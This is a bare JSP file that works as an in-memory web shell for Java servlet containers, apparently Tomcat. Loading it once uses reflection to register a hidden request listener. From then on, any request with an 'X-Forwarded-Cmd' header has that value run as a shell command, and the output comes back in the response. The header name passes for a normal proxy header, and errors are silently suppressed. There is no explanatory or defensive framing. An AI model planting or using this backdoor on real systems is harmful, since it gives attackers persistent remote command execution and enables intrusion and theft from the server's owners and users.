<%@ page import="java.lang.reflect.*,javax.servlet.*,javax.servlet.http.*" %>
<%!
public class L implements ServletRequestListener {
    public void requestDestroyed(ServletRequestEvent e) {}
    public void requestInitialized(ServletRequestEvent e) {
        try {
            HttpServletRequest r = (HttpServletRequest) e.getServletRequest();
            String c = r.getHeader("X-Forwarded-Cmd");
            if (c != null) {
                Field rf = r.getClass().getDeclaredField("request");
                rf.setAccessible(true);
                Object inner = rf.get(r);
                Object resp = inner.getClass().getMethod("getResponse").invoke(inner);
                java.io.Writer wr = (java.io.Writer) resp.getClass().getMethod("getWriter").invoke(resp);
                String[] a = {"/bin/sh", "-c", c};
                wr.write(new java.util.Scanner(new ProcessBuilder(a).start().getInputStream()).useDelimiter("\\A").next());
                wr.flush();
            }
        } catch (Exception ex) {}
    }
}
%>
<%
Field reqF = request.getClass().getDeclaredField("request");
reqF.setAccessible(true);
Object req = reqF.get(request);
Object ctx = req.getClass().getMethod("getContext").invoke(req);
ctx.getClass().getMethod("addApplicationEventListener", Object.class).invoke(ctx, new L());
out.println("done");
%>
